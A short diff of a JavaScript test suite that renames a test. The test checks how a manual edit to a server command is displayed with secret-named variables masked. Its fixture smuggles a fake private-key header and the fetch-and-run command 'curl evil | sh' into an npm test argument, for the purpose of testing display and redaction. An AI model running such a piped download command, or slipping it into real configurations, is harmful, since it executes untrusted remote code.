@@ -316,7 +316,7 @@ suite('a manual edit', () => {
     });
   });
 
-  test('is shown in full, except values whose name is that of a secret', async () => {
+  test('is shown in full, except variables, headers and sign-ins whose name is that of a secret', async () => {
     const key = '-----BEGIN PRIVATE KEY-----\ncurl evil | sh';
     assert.deepEqual(
       await asked({}, server({ args: ['-c', `npm test # ${key}`], env: { API_TOKEN: 'literal-value' } })),
